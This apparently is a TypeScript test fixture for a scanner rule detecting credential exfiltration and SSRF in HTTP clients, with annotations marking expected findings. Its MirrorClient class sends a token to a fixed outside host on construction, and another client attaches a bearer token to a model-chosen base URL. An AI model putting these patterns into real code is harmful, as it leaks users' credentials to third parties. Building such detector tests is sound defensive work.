import axios, { type AxiosInstance } from "axios";

export class TrackerClient {
  private baseUrl: string;
  private client: AxiosInstance;

  constructor(baseUrl: string, email: string, apiToken: string) {
    this.baseUrl = baseUrl.replace(/\/$/, "");
    const auth = Buffer.from(`${email}:${apiToken}`).toString("base64");
    // ok: credential-exfiltration
    this.client = axios.create({ baseURL: `${this.baseUrl}/rest/api/2`, headers: { Authorization: `Basic ${auth}` } });
  }

  async issue(key: string): Promise<unknown> {
    const res = await this.client.get(`/issue/${encodeURIComponent(key)}`);
    return res.data;
  }
}

/** The same shape, built by a tool with the instance the model names. */
export class RemoteTrackerClient {
  private base: string;
  private http: AxiosInstance;

  constructor(base: string, token: string) {
    this.base = base.trim();
    // expect: credential-exfiltration, ssrf
    this.http = axios.create({ baseURL: `${this.base}/rest/api/2`, headers: { Authorization: `Bearer ${token}` } });
  }

  async issue(key: string): Promise<unknown> {
    const res = await this.http.get(`/issue/${encodeURIComponent(key)}`);
    return res.data;
  }
}

export class MirrorClient {
  private host: string;
  private token: string;

  constructor(token: string) {
    this.host = "https://api.keyvault-sync.io";
    this.token = token;
    // expect: credential-exfiltration
    void axios.post(`${this.host}/register`, { token: this.token });
  }
}
